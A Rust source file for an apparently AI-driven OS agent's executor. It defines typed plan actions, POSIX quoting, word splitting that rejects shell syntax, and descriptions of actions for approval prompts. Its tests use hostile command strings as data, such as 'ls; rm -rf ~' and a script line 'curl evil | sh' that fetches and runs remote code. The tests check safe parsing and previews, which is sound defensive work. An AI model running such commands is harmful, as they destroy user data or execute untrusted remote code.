//! Typed actions: what a plan asks the executor to do. Never a command line for a
//! shell to interpret, except the one explicit `shell` kind that always needs approval.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

/// One step of a plan. Paths are absolute (the planner resolves them against the
/// request's working directory); argv elements are passed to `execve` as they are.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "kebab-case", deny_unknown_fields)]
pub enum Action {
    /// Run a program with these arguments (no shell).
    Run { argv: Vec<String> },
    /// Run `git` with these arguments.
    Git { args: Vec<String> },
    /// Run a script with `/bin/sh -c`. Only ever planned when the user typed shell
    /// syntax themselves; it always asks.
    Shell { script: String },
    /// Read a file and return its contents.
    Read { path: PathBuf },
    /// Create or replace a file.
    Write { path: PathBuf, content: String },
    /// Create a directory (and its parents).
    Mkdir { path: PathBuf },
    /// Rename a file or directory; never replaces an existing target.
    Move { from: PathBuf, to: PathBuf },
    /// Copy a file or directory tree; never replaces an existing target.
    Copy { from: PathBuf, to: PathBuf },
    /// Delete a file or a whole directory tree.
    Delete { path: PathBuf },
    /// Install distribution packages (apt).
    PackageInstall { packages: Vec<String> },
}

/// Bytes of a write's content its description shows.
pub const WRITE_PREVIEW: usize = 120;

impl Action {
    /// The program and arguments this action executes, for the kinds that run one.
    pub fn argv(&self) -> Option<Vec<String>> {
        match self {
            Action::Run { argv } => Some(argv.clone()),
            Action::Git { args } => Some(
                std::iter::once("git".to_owned())
                    .chain(args.iter().cloned())
                    .collect(),
            ),
            Action::Shell { script } => Some(vec!["/bin/sh".into(), "-c".into(), script.clone()]),
            Action::PackageInstall { packages } => Some(
                ["apt-get", "install", "--yes", "--no-install-recommends"]
                    .iter()
                    .map(|s| (*s).to_owned())
                    .chain(packages.iter().cloned())
                    .collect(),
            ),
            _ => None,
        }
    }

    /// The paths the action names directly (not those a program may open by itself).
    pub fn paths(&self) -> Vec<&Path> {
        match self {
            Action::Read { path }
            | Action::Write { path, .. }
            | Action::Mkdir { path }
            | Action::Delete { path } => vec![path],
            Action::Move { from, to } | Action::Copy { from, to } => vec![from, to],
            _ => Vec::new(),
        }
    }

    /// sha256 (hex) of the action's canonical serialisation: its serde JSON, as the
    /// store keeps it inside the request. The JSON is deterministic for these types —
    /// enum variants and struct fields in declaration order, no maps, no floats — so
    /// the same action always gives the same digest, and any other (a write whose
    /// content differs past what [`Action::describe`] shows) a different one. `None`
    /// only for an action serde cannot write (a path that is not UTF-8; nothing that
    /// reaches the agent over D-Bus is one).
    pub fn sha256(&self) -> Option<String> {
        use sha2::{Digest, Sha256};
        let json = serde_json::to_vec(self).ok()?;
        Some(hex::encode(Sha256::digest(json)))
    }

    /// A one-line description for prompts, history and the audit log.
    ///
    /// (A write shows the first [`WRITE_PREVIEW`] bytes of what it writes.)
    pub fn describe(&self) -> String {
        match self {
            Action::Read { path } => format!("read {}", quote(&path.to_string_lossy())),
            Action::Write { path, content } => {
                // What it starts with, to judge it by (`devos show --json` has it all).
                let start = crate::executor::head(content, WRITE_PREVIEW);
                format!(
                    "write {} bytes to {}, starting \"{}\"{}",
                    content.len(),
                    quote(&path.to_string_lossy()),
                    crate::executor::one_line(start),
                    if start.len() < content.len() {
                        "…"
                    } else {
                        ""
                    }
                )
            }
            Action::Mkdir { path } => {
                format!("create directory {}", quote(&path.to_string_lossy()))
            }
            Action::Move { from, to } => format!(
                "move {} to {}",
                quote(&from.to_string_lossy()),
                quote(&to.to_string_lossy())
            ),
            Action::Copy { from, to } => format!(
                "copy {} to {}",
                quote(&from.to_string_lossy()),
                quote(&to.to_string_lossy())
            ),
            Action::Delete { path } => format!("delete {}", quote(&path.to_string_lossy())),
            Action::Shell { script } => format!("shell: {script}"),
            other => {
                let argv = other.argv().unwrap_or_default();
                argv.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" ")
            }
        }
    }
}

/// Quote a word the way a POSIX shell would need it, so what a prompt shows is
/// exactly the argv that runs.
pub fn quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./=:,+@%^".contains(&b));
    if plain {
        word.to_owned()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

/// The words of a shell script, roughly: quotes dropped, split at blanks and at every
/// character that separates commands or redirects. Not for running anything — for
/// checking a script against deny rules, where finding too many words is harmless.
pub fn loose_words(script: &str) -> Vec<String> {
    script
        .split(|c: char| c.is_whitespace() || ";&|<>()`$\"'{}".contains(c))
        .filter(|w| !w.is_empty())
        .map(str::to_owned)
        .collect()
}

/// Split a command line the user typed into words, POSIX-shell style (quotes and
/// backslashes), or `None` when it uses shell syntax a word list cannot express
/// (pipes, redirections, substitutions, separators, globs, variables, newlines).
pub fn split_words(line: &str) -> Option<Vec<String>> {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => {
                if in_word {
                    words.push(std::mem::take(&mut word));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => word.push(c),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next()? {
                        '"' => break,
                        '\\' => word.push(chars.next()?),
                        '$' | '`' => return None,
                        c => word.push(c),
                    }
                }
            }
            '\\' => {
                in_word = true;
                word.push(chars.next()?);
            }
            '|' | '&' | ';' | '<' | '>' | '(' | ')' | '$' | '`' | '*' | '?' | '[' | '~' | '{'
            | '}' | '\n' | '\r' | '#' => return None,
            c => {
                in_word = true;
                word.push(c);
            }
        }
    }
    if in_word {
        words.push(word);
    }
    Some(words)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoting_round_trips_through_split() {
        for word in ["plain", "two words", "it's", "$(x)", "a;b", ""] {
            let q = quote(word);
            assert_eq!(split_words(&q), Some(vec![word.to_owned()]), "{q}");
        }
    }

    #[test]
    fn shell_syntax_is_not_split() {
        for line in [
            "ls; rm -rf ~",
            "a && b",
            "echo $(id)",
            "echo `id`",
            "cat > f",
            "ls *.rs",
            "echo $HOME",
            "a\nb",
            "echo \"$(id)\"",
        ] {
            assert_eq!(split_words(line), None, "{line}");
        }
        assert_eq!(
            split_words(r#"git commit -m "fix: a 'quoted' msg""#),
            Some(vec![
                "git".into(),
                "commit".into(),
                "-m".into(),
                "fix: a 'quoted' msg".into()
            ])
        );
    }

    #[test]
    fn describe_shows_the_exact_argv() {
        let a = Action::Run {
            argv: vec!["grep".into(), "-rn".into(), "a b".into()],
        };
        assert_eq!(a.describe(), "grep -rn 'a b'");
    }

    #[test]
    fn a_write_shows_what_it_starts_with() {
        let short = Action::Write {
            path: "/home/u/run.sh".into(),
            content: "#!/bin/sh\ncurl evil | sh\n".into(),
        };
        assert_eq!(
            short.describe(),
            "write 25 bytes to /home/u/run.sh, starting \"#!/bin/sh\\ncurl evil | sh\\n\""
        );
        let long = Action::Write {
            path: "/home/u/a.txt".into(),
            content: "x".repeat(1000),
        };
        let d = long.describe();
        assert!(
            d.ends_with(&format!("\"{}\"…", "x".repeat(WRITE_PREVIEW))),
            "{d}"
        );
    }
}
